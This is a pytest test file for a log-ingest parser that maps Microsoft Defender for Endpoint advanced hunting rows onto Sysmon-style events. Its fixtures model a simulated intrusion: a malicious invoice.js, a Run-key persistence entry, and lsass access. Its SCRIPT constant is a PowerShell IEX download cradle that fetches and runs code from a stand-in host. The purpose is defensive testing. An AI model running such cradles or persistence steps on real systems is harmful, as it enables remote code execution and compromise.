"""Microsoft Defender for Endpoint advanced hunting rows: the three shapes, each table's mapping, the sniff.

The fixtures (``fixtures/mde/``) are rows written after Microsoft's advanced
hunting schema reference (column names and types of each ``Device*`` table),
one per table and action type, and the same rows in the streaming API's,
Event Hub's and Log Analytics' envelopes.
"""

from __future__ import annotations

import json
from datetime import datetime
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ingest.ipmap import IpHostMap, connection_ends
from ingest.journal import Journal
from ingest.normalize import parse_timestamp
from ingest.parsers import mde
from ingest.parsers.base import ParseContext, ParseError
from ingest.parsers.mde import REMAINDER_LIMIT, MdeParser, table_of
from ingest.pipeline import ingest_records
from ingest.readers.base import RawRecord
from ingest.readers.files import (
    choose_reader,
    default_readers,
    iter_files,
    open_binary,
    skip_reason,
)
from ingest.registry import default_registry
from tests.ingest.fuzz_seeds import seed_objects

FIXTURES = Path(__file__).parent / "fixtures" / "mde"
ROWS: dict[str, dict[str, Any]] = json.loads((FIXTURES / "advanced_hunting.json").read_text(encoding="utf-8"))
PARSER = MdeParser()
CONTEXT = ParseContext(origin="test")
SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-img-delivery.example/a.png')"


def parse(record: dict[str, Any]) -> list[Any]:
    return list(PARSER.parse(record, CONTEXT))


def one(name: str) -> Any:
    (event,) = parse(ROWS[name])
    return event


def ndjson(name: str) -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in (FIXTURES / name).read_bytes().splitlines() if line.strip()]


# -- each table ------------------------------------------------------------------------------

PS_PATH = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


@pytest.mark.parametrize(
    ("name", "kind", "expected"),
    [
        ("process_created", "sysmon:process_create", {
            "process.executable": PS_PATH, "process.name": "powershell.exe", "process.pid": 7144,
            "process.hash.sha256": "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
            "user.name": "corp\\jdoe", "process.parent.executable": "c:\\windows\\system32\\wscript.exe",
            "process.parent.name": "wscript.exe", "process.parent.pid": 6312,
            "process.parent.command_line": '"wscript.exe" C:\\Users\\jdoe\\Downloads\\invoice.js',
            "process.parent.user.name": "corp\\jdoe", "process.parent.parent.name": "explorer.exe",
            "process.parent.parent.pid": 4012, "process.integrity_level": "Medium",
            "process.pe.original_file_name": "PowerShell.EXE", "event.dataset": "DeviceProcessEvents",
            "event.action": "ProcessCreated", "host.name.original": "ws-0042.corp.contoso.com",
            "host.id": "8f2b1c0de5a94e6f7a8b9c0d1e2f3a4b5c6d7e8f"}),
        ("connection_success", "sysmon:network_connect", {
            "process.executable": PS_PATH.lower(), "process.pid": 7144, "source.ip": "10.1.2.42",
            "source.port": 50213, "destination.ip": "198.51.100.23", "destination.port": 443,
            "network.transport": "tcp", "network.direction": "outbound", "host.ip": "10.1.2.42",
            "destination.domain": "cdn-img-delivery.example", "event.outcome": "success", "user.name": "corp\\jdoe"}),
        ("inbound_accepted", "sysmon:network_connect", {
            "source.ip": "10.1.9.7", "source.port": 53114, "destination.ip": "10.1.2.42", "destination.port": 445,
            "network.direction": "inbound", "host.ip": "10.1.2.42", "process.executable": "System",
            "process.pid": 4}),
        ("file_created_downloaded", "sysmon:file_stream_create", {
            "file.path": "C:\\Users\\jdoe\\AppData\\Local\\Temp\\a.png", "file.name": "a.png",
            "file.hash.sha256": "91c2d6b5a4f3e8d7c6b5a4938271605f4e3d2c1b0a9f8e7d6c5b4a3928170605",
            "url.full": "http://cdn-img-delivery.example/a.png", "url.domain": "cdn-img-delivery.example",
            "http.request.referrer": "http://cdn-img-delivery.example/", "file.origin.ip": "198.51.100.23"}),
        ("file_deleted", "sysmon:file_delete", {
            "file.path": "C:\\Users\\jdoe\\Downloads\\invoice.js", "process.name": "wscript.exe"}),
        ("image_loaded", "sysmon:image_load", {
            "file.name": "system.management.automation.dll",
            "file.hash.sha256": "0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c"}),
        ("registry_value_set", "sysmon:registry_set", {
            "registry.path": "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows"
                             "\\CurrentVersion\\Run\\Updater",
            "registry.value": "C:\\Users\\jdoe\\AppData\\Local\\Temp\\a.png.exe"}),
        ("logon_success", "winsec:logon", {
            "user.name": "corp\\svc-backup", "winlog.logon.type": 3, "source.ip": "10.1.9.7",
            "source.workstation": "srv-07", "event.outcome": "success", "winlog.logon.id": "3365918",
            "process.user.name": "nt authority\\system"}),
        ("logon_failed", "winsec:logon_failed", {
            "user.name": "ws-0042\\administrator", "winlog.logon.type": 10, "source.ip": "203.0.113.9",
            "source.workstation": "kali", "event.outcome": "failure",
            "winlog.logon.failure.reason": "InvalidUserNameOrPassword"}),
        ("dns_query_response", "sysmon:dns_query", {
            "dns.question.name": "cdn-img-delivery.example",
            "dns.answers": ["edge.cdn-img-delivery.example", "198.51.100.23"], "event.dataset": "DeviceEvents"}),
        ("powershell_command", "powershell:pipeline", {
            "powershell.command": "New-Object", "process.command_line_decoded": SCRIPT}),
        ("open_process", "sysmon:process_access", {
            "target.process.executable": "C:\\Windows\\System32\\lsass.exe", "target.process.pid": 712,
            "target.granted_access": "0x1410"}),
        ("antivirus_detection", "mde:event", {
            "event.action": "AntivirusDetection", "mde.FileName": "a.png.exe",
            "mde.additional.ThreatName": "Trojan:Win32/Wacatac.B!ml", "mde.additional.WasRemediated": True}),
    ],
)
def test_each_table_maps_to_the_kind_and_fields_of_its_sysmon_or_security_event(name, kind, expected):
    event = one(name)
    assert (event.kind, event.host, event.source) == (kind, "ws-0042", "mde")
    assert {key: event.fields.get(key) for key in expected} == expected


def test_timestamp_with_seven_fractional_digits_is_utc_to_the_microsecond():
    assert one("process_created").ts == pytest.approx(1709634000.123456, abs=1e-6)


def test_an_encoded_command_is_decoded_as_on_the_sysmon_path():
    created = one("process_created")
    assert created.fields["process.command_line_decoded"] == SCRIPT
    # the actor of every other row is decoded too, so a renamed PowerShell's network event carries its script
    assert one("connection_success").fields["process.command_line_decoded"] == SCRIPT


def test_the_read_values_are_not_kept_twice_and_the_rest_are_kept_under_mde():
    fields = one("dns_query_response").fields
    assert "mde.additional.DnsQueryString" not in fields and "mde.InitiatingProcessCommandLine" not in fields
    assert fields["mde.InitiatingProcessCreationTime"] == "2024-03-05T10:20:00.1234567Z"
    assert not any(key.startswith("mde.") and fields[key] in (None, "") for key in fields)


def test_unmapped_columns_are_bounded():
    row = {**ROWS["antivirus_detection"], **{f"Extra{n}": "x" * 5000 for n in range(200)}}
    fields = one_of(row).fields
    kept = [key for key in fields if key.startswith("mde.") and key != "mde.remainder_dropped"]
    assert len(kept) == REMAINDER_LIMIT
    assert fields["mde.remainder_dropped"] == 200 + 7 - REMAINDER_LIMIT  # 200 extra, 7 of the row's own
    assert max(len(v) for k, v in fields.items() if k.startswith("mde.Extra")) == mde.REMAINDER_CHARS


def one_of(record: dict[str, Any]) -> Any:
    (event,) = parse(record)
    return event


def test_additional_fields_as_an_object_read_as_its_json_text():
    row = ROWS["dns_query_response"]
    as_object = {**row, "AdditionalFields": json.loads(row["AdditionalFields"])}
    assert one_of(as_object).fields == one_of(row).fields


def test_a_failed_logon_from_outside_and_a_logon_type_word_unknown_to_4624():
    fields = one_of({**ROWS["logon_failed"], "LogonType": "Something New"}).fields
    assert fields["winlog.logon.type"] == "Something New"


@pytest.mark.parametrize(
    ("action", "direction", "outcome"),
    [("ConnectionFailed", "outbound", "failure"), ("ConnectionAttempt", "outbound", None),
     ("ConnectionFound", "outbound", None)],
)
def test_connection_action_types(action, direction, outcome):
    fields = one_of({**ROWS["connection_success"], "ActionType": action}).fields
    assert (fields.get("network.direction"), fields.get("event.outcome")) == (direction, outcome)
    assert fields["host.ip"] == fields["source.ip"] == "10.1.2.42"


def test_a_found_connection_takes_its_direction_from_its_ports():
    row = {**ROWS["connection_success"], "ActionType": "ConnectionFound", "LocalPort": 445, "RemotePort": 53114}
    fields = one_of(row).fields
    assert (fields["network.direction"], fields["source.ip"], fields["destination.port"]) == ("inbound",
                                                                                            "198.51.100.23", 445)
    assert fields["host.ip"] == "10.1.2.42" and "destination.domain" not in fields


def test_inbound_connection_puts_the_peer_first_and_the_ip_map_learns_the_local_end():
    event = one("inbound_accepted")
    assert connection_ends(event.fields) == ("10.1.2.42", "10.1.9.7")
    ipmap = IpHostMap()
    assert ipmap.observe(event)
    assert ipmap.lookup("10.1.2.42", event.ts) == "ws-0042" and ipmap.lookup("10.1.9.7", event.ts) is None


def test_a_group_address_as_the_local_end_is_not_the_host():
    fields = one_of({**ROWS["connection_success"], "LocalIP": "239.255.255.250"}).fields
    assert "host.ip" not in fields and fields["host.ip_unknown"] is True


def test_listening_and_inspected_network_rows_are_kept_as_events_of_their_process():
    event = one_of({**ROWS["connection_success"], "ActionType": "ListeningConnectionCreated"})
    assert event.kind == "mde:event" and "destination.ip" not in event.fields
    assert event.fields["mde.LocalIP"] == "10.1.2.42" and event.fields["process.pid"] == 7144


def test_a_file_from_a_non_web_origin_keeps_the_url_as_written_and_no_download():
    event = one_of({**ROWS["file_created_downloaded"], "FileOriginUrl": "about:internet"})
    assert event.fields["url.original"] == "about:internet" and "url.full" not in event.fields


@pytest.mark.parametrize(("action", "kind"), [("FileModified", "sysmon:file_create"),
                                              ("FileRenamed", "sysmon:file_create")])
def test_other_file_writes_without_origin_are_sysmon_11(action, kind):
    row = {**ROWS["file_created_downloaded"], "ActionType": action, "FileOriginUrl": None, "FileOriginIP": None}
    assert one_of(row).kind == kind


def test_a_folder_path_without_the_file_name_gets_it_joined():
    row = {**ROWS["file_deleted"], "FolderPath": "C:\\Users\\jdoe\\Downloads"}
    assert one_of(row).fields["file.path"] == "C:\\Users\\jdoe\\Downloads\\invoice.js"


def test_registry_key_events_without_data_are_sysmon_12():
    row = {**ROWS["registry_value_set"], "ActionType": "RegistryKeyCreated", "RegistryValueName": None,
           "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Classes\\CLSID\\{0E5AAE11-A475-4C5B-AB00-C66DE400274E}"}
    event = one_of(row)
    assert event.kind == "sysmon:registry_event"
    assert event.fields["registry.path"] == "HKLM\\SOFTWARE\\Classes\\CLSID\\{0E5AAE11-A475-4C5B-AB00-C66DE400274E}"


# -- DeviceNetworkInfo: address assignments for the IP -> host map -------------------------

def test_network_info_gives_one_lease_per_address_the_adapter_holds():
    events = parse(ROWS["network_info"])
    assert [(e.kind, e.fields["dhcp.assigned_ip"], e.fields["dhcp.hostname"]) for e in events] == [
        ("mde:network_info", "10.1.2.42", "ws-0042"), ("mde:network_info", "fd00:1:2::42", "ws-0042")]
    assert events[0].fields["dhcp.mac"] == "00:15:5d:0a:01:42"
    ipmap = IpHostMap()
    assert all(ipmap.observe(event) for event in events)
    assert ipmap.lookup("10.1.2.42", events[0].ts + 3600) == "ws-0042"


def test_an_adapter_that_is_down_teaches_nothing_but_is_kept():
    (event,) = parse({**ROWS["network_info"], "NetworkAdapterStatus": "Down"})
    assert "dhcp.assigned_ip" not in event.fields and event.fields["mde.NetworkAdapterName"] == "Ethernet0"
    assert not IpHostMap().observe(event)


# -- the three shapes ------------------------------------------------------------------------

def comparable(event: Any) -> tuple:
    return event.kind, event.ts, event.host, event.fields


@pytest.mark.parametrize("fixture", ["streaming.ndjson", "sentinel.ndjson"])
def test_the_streaming_and_log_analytics_shapes_read_as_the_bare_row(fixture):
    records = ndjson(fixture)
    assert len(records) == 6
    for record in records:
        assert PARSER.sniff(record)
        row = record.get("properties", record)
        bare = {k: v for k, v in row.items() if k not in ("TenantId", "TimeGenerated", "SourceSystem", "MachineGroup",
                                                           "Type", "_ResourceId")}
        if isinstance(bare.get("AdditionalFields"), dict):
            bare["AdditionalFields"] = json.dumps(bare["AdditionalFields"])
        assert [comparable(e) for e in parse(record)] == [comparable(e) for e in parse(bare)]


def test_an_event_hub_message_gives_each_rows_events_with_its_own_record():
    message = json.loads((FIXTURES / "eventhub_message.json").read_text(encoding="utf-8"))
    assert PARSER.sniff(message)
    events = parse(message)
    assert [e.kind for e in events] == ["sysmon:process_create", "sysmon:network_connect",
                                        "mde:network_info", "mde:network_info"]
    assert [e.raw for e in events] == [message["records"][n] for n in (0, 1, 2, 2)]
    assert [e.origin for e in events] == ["test#record-1", "test#record-2", "test#record-3", "test#record-3"]


def test_parse_alone_fails_a_message_at_its_first_bad_record_naming_it():
    # the pipeline takes a message's records one by one (test_mde_pipeline); a caller that parses
    # the message whole (another wrapper's inner record) has one answer for all of it
    message = json.loads((FIXTURES / "eventhub_message.json").read_text(encoding="utf-8"))
    del message["records"][1]["properties"]["DeviceName"]
    with pytest.raises(ParseError, match="^record-2: MDE DeviceNetworkEvents row: no DeviceName$"):
        parse(message)
    assert CONTEXT.origin == "test"
    with pytest.raises(ParseError, match="^an Event Hub message with no records$"):
        parse({"records": []})


def test_a_flat_rows_time_falls_back_to_time_generated_and_a_streaming_records_to_its_time():
    row = {k: v for k, v in ROWS["file_deleted"].items() if k != "Timestamp"}
    assert one_of({**row, "TimeGenerated": "2024-03-05T10:21:31Z", "Type": "DeviceFileEvents"}).ts == 1709634091.0
    streaming = {"time": "2024-03-05T10:21:32.0000000Z", "category": "AdvancedHunting-DeviceFileEvents",
                 "properties": row}
    assert one_of(streaming).ts == 1709634092.0


@pytest.mark.parametrize(
    ("record", "reason"),
    [
        ({"time": "2024-03-05T10:00:00Z", "category": "AdvancedHunting-EmailEvents",
          "properties": {"Timestamp": "2024-03-05T10:00:00Z", "NetworkMessageId": "x"}},
         "table 'EmailEvents' is not read"),
        ({**ROWS["file_deleted"], "Timestamp": None}, "no Timestamp"),
        ({**ROWS["file_deleted"], "Timestamp": "yesterday"}, "unrecognised timestamp"),
        ({**ROWS["file_deleted"], "DeviceName": ""}, "no DeviceName"),
        ({**ROWS["process_created"], "ProcessId": "12.5"}, "ProcessId"),
        ({"Type": "DeviceEvents", "DeviceName": "ws-1", "Timestamp": "2024-03-05T10:00:00Z"} | {"Type": 7},
         "Type is not a table name"),
    ],
    ids=["other-table", "no-time", "bad-time", "no-device", "bad-pid", "bad-type"],
)
def test_rows_that_cannot_be_read_are_refused_with_the_reason(record, reason):
    with pytest.raises(ParseError, match=reason):
        parse(record)


# -- which table a bare row is ---------------------------------------------------------------

@pytest.mark.parametrize(
    ("row", "table"),
    [
        ({"ActionType": "ProcessCreated"}, "DeviceProcessEvents"),
        ({"ActionType": "InboundConnectionAccepted"}, "DeviceNetworkEvents"),
        ({"ActionType": "HttpConnectionInspected"}, "DeviceNetworkEvents"),
        ({"ActionType": "FileRenamed"}, "DeviceFileEvents"),
        ({"ActionType": "ImageLoaded"}, "DeviceImageLoadEvents"),
        ({"ActionType": "RegistryKeyDeleted"}, "DeviceRegistryEvents"),
        ({"ActionType": "LogonAttempted"}, "DeviceLogonEvents"),
        ({"NetworkAdapterName": "Wi-Fi"}, "DeviceNetworkInfo"),
        ({"ActionType": "Future", "Protocol": "Tcp", "RemoteIP": "1.2.3.4"}, "DeviceNetworkEvents"),
        ({"ActionType": "Future", "LogonType": "Network"}, "DeviceLogonEvents"),
        ({"ActionType": "Future", "RegistryKey": "HKEY_LOCAL_MACHINE\\x"}, "DeviceRegistryEvents"),
        ({"ActionType": "Future", "RegistryKey": "HKEY_LOCAL_MACHINE\\x", "FileName": "a"}, "DeviceEvents"),
        ({"ActionType": "DnsQueryResponse"}, "DeviceEvents"),
    ],
)
def test_a_bare_rows_table_is_told_from_its_columns(row, table):
    assert table_of(row) == table


# -- the sniff -------------------------------------------------------------------------------

IDENTITY_LOGON = {"Timestamp": "2024-03-05T10:00:00Z", "ActionType": "LogonSuccess", "Application": "Active Directory",
                  "LogonType": "Resource access", "Protocol": "Kerberos", "AccountName": "jdoe",
                  "DeviceName": "ws-0042.corp.contoso.com", "IPAddress": "10.1.2.42", "Port": 50321,
                  "DestinationDeviceName": "dc01.corp.contoso.com", "ReportId": "abc"}


@pytest.mark.parametrize(
    "record",
    [
        IDENTITY_LOGON,  # Defender for Identity: no DeviceId
        {"TimeGenerated": "2024-03-05T10:00:00Z", "Computer": "ws-1", "EventID": 4624, "Type": "SecurityEvent"},
        {"@timestamp": "2024-03-05T10:00:00Z", "host": {"name": "ws-1"}, "process": {"pid": 4}},
        {"time": "x", "category": "Administrative", "properties": {}},  # an Azure activity log record
        {"records": [{"time": "x", "category": "Administrative", "properties": {}}]},
        {"records": []},
        {"Type": "Heartbeat", "Computer": "ws-1"},
        "DeviceProcessEvents",
    ],
    ids=["identity-logon", "sentinel-security-event", "ecs", "azure-activity", "azure-activity-message",
         "empty-message", "heartbeat", "text"],
)
def test_the_sniff_does_not_claim_other_formats(record):
    assert not PARSER.sniff(record)


def _mde_fixtures() -> list[Any]:
    return [*ROWS.values(), *ndjson("streaming.ndjson"), *ndjson("sentinel.ndjson"),
            json.loads((FIXTURES / "eventhub_message.json").read_text(encoding="utf-8"))]


def test_the_default_registry_detects_every_mde_fixture_as_mde():
    registry = default_registry()
    assert registry.names.index("mde") < registry.names.index("ecs")
    assert {registry.detect(record).name for record in _mde_fixtures()} == {"mde"}


def test_no_fixture_of_another_format_is_claimed():
    mde_rows = _mde_fixtures()
    seeds = [record for record in seed_objects() if record not in mde_rows]  # the fuzz seeds hold MDE's too
    assert len(seeds) > 50
    assert [record for record in seeds if PARSER.sniff(record)] == []


def _corpus_records(corpus: Path):
    """Every record the readers frame from every corpus file (as the pipeline reads it)."""
    readers = default_readers()
    for path in iter_files([corpus]):
        if skip_reason(path) is not None:
            continue
        reader = choose_reader(path, readers).reader
        if reader is None:
            continue
        with open_binary(path) as stream:
            for item in reader.read(stream, str(path)):
                if isinstance(item, RawRecord):
                    yield path, item.record


def test_no_record_of_the_sample_corpus_is_claimed(samples_dir):
    claimed, read = [], 0
    for path, record in _corpus_records(samples_dir):
        read += 1
        documents = [record]  # and an Elasticsearch hit's document, which the wrapper hands on
        if isinstance(record, dict) and isinstance(record.get("_source"), dict):
            documents.append(record["_source"])
        if any(PARSER.sniff(document) for document in documents):
            claimed.append(f"{path.relative_to(samples_dir)}: {str(record)[:80]}")
    assert read > 10_000  # the corpus was read (its README documents ~30k records)
    assert claimed == []


# -- mutated rows: ParseError or events, nothing else ----------------------------------------

SEEDS = [*ROWS.values(), *ndjson("streaming.ndjson"), *ndjson("sentinel.ndjson")]
junk = st.none() | st.booleans() | st.integers(-2**70, 2**70) | st.floats(allow_nan=True) | st.text(max_size=30) | \
    st.lists(st.text(max_size=5), max_size=3) | st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=3)
COLUMNS = sorted({key for row in ROWS.values() for key in row} | {"Type", "category", "properties", "records",
                                                                  "DnsQueryString", "DnsQueryResult", "Command"})


@st.composite
def mutated_rows(draw: st.DrawFn) -> dict[str, Any]:
    """A fixture record with columns dropped, or set to junk (its own or another table's columns)."""
    record = json.loads(json.dumps(draw(st.sampled_from(SEEDS))))
    row = record.get("properties", record)
    for _ in range(draw(st.integers(1, 5))):
        key = draw(st.sampled_from(COLUMNS))
        action = draw(st.integers(0, 3))
        if action == 0:
            row.pop(key, None)
        elif action == 1 and key in ("AdditionalFields", "IPAddresses"):
            row[key] = draw(st.text(max_size=40).map(lambda text: "{" + text))
        else:
            row[key] = draw(junk)
    return record


@settings(max_examples=300, deadline=None)
@given(record=mutated_rows())
def test_a_mutated_row_gives_events_or_a_parse_error_nothing_else(record):
    if not PARSER.sniff(record):
        return
    try:
        events = parse(record)
    except ParseError as exc:
        assert str(exc)
        return
    for event in events:
        orjson.dumps(event.fields, default=str)  # the pipeline journals the fields as JSON
        assert event.host and isinstance(event.ts, float)


@pytest.fixture(scope="module")
def fuzz_journal(tmp_path_factory):
    with Journal(tmp_path_factory.mktemp("mde-fuzz") / "journal.sqlite") as journal:
        yield journal


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(records=st.lists(mutated_rows(), min_size=1, max_size=8))
def test_mutated_rows_through_the_pipeline_are_accepted_or_rejected_with_a_reason(fuzz_journal, records):
    before = fuzz_journal.counts()["rejected"]
    report = ingest_records(records, store=None, journal=fuzz_journal, registry=default_registry())
    total = report.total
    assert total.received == len(records) == total.accepted + total.rejected
    for rejection in fuzz_journal.rejected(limit=100_000, offset=before):
        assert rejection.origin and rejection.reason and rejection.format



@settings(max_examples=200, deadline=None)
@given(moment=st.datetimes(min_value=datetime(1990, 1, 1), max_value=datetime(2099, 12, 31)),
       tick=st.integers(0, 9))
def test_the_direct_read_of_mdes_time_is_the_general_readers(moment, tick):
    stamp = moment.strftime("%Y-%m-%dT%H:%M:%S.%f") + f"{tick}Z"  # seven digits, as MDE writes them
    assert mde._seconds(stamp, "UTC") == parse_timestamp(stamp)
    assert mde._seconds(stamp[:-1], "Europe/Paris") == parse_timestamp(stamp[:-1], default_timezone="Europe/Paris")


def test_an_elasticsearch_hit_of_an_mde_row_is_read_by_this_parser(tmp_path):
    hit = {"_index": "mde-2024.03.05", "_id": "10432", "_source": ROWS["process_created"]}
    with Journal(tmp_path / "journal.sqlite") as journal:
        report = ingest_records([hit], store=None, journal=journal, registry=default_registry())
        (row,) = journal.iter_events()
    assert report.total.accepted == 1 and row.event.kind == "sysmon:process_create"
    assert row.event.fields["process.command_line_decoded"] == SCRIPT


# -- memo tables (speed): never change what a row gives ---------------------------------------


@pytest.mark.parametrize("value", [True, 1.0, "1"])
def test_the_actor_memo_reads_equal_values_of_other_classes_apart(value) -> None:
    from ingest.parsers import mde_columns

    def fields_with(parent_pid: object) -> Any:
        row = {**ROWS["connection_success"], "InitiatingProcessParentId": parent_pid}
        try:
            return parse(row)[0].fields
        except ParseError as exc:
            return str(exc)

    mde_columns._actors.clear()
    alone = fields_with(value)
    mde_columns._actors.clear()
    fields_with(1)  # 1 == 1.0 == True: remembered first under an equal key
    assert fields_with(value) == alone


def test_a_row_of_many_columns_is_read_but_its_layout_not_held() -> None:
    row = {**ROWS["antivirus_detection"], **{f"Junk{i}": i for i in range(1000)}}
    mde._layouts.clear()
    (event,) = parse(row)
    # the AdditionalFields' few keys are remembered, the row's thousand are not
    assert mde._layouts and all(len(keys) < 100 for _, _, keys in mde._layouts)
    assert event.fields["mde.remainder_dropped"] > 900 and event.fields["mde.Junk0"] == 0


def test_the_layout_memo_is_bounded_by_the_keys_it_holds() -> None:
    # 400 junk layouts of ~230 long keys: within the entry and key-count caps each, 92k keys in all
    mde._layouts.clear()
    for n in range(400):
        parse({**ROWS["connection_success"], **{f"J{n:03d}{i:03d}".ljust(64, "x"): i for i in range(200)}})
    held = sum(len(keys) for _, _, keys in mde._layouts)
    assert 0 < held <= mde._LAYOUT_KEY_BUDGET


def test_the_actor_memo_is_bounded_by_the_text_it_holds() -> None:
    from ingest.parsers import mde_columns

    mde_columns._actors.clear()
    for n in range(200):  # 200 processes of ~8,000 characters: 1.6M characters
        parse({**ROWS["connection_success"], "InitiatingProcessCommandLine": f"cmd{n} /c " + "x" * 7900})
    held = sum(len(value) for key in mde_columns._actors for value in key[3] if isinstance(value, str))
    assert 0 < held <= mde_columns.ACTOR_CHARS_BUDGET
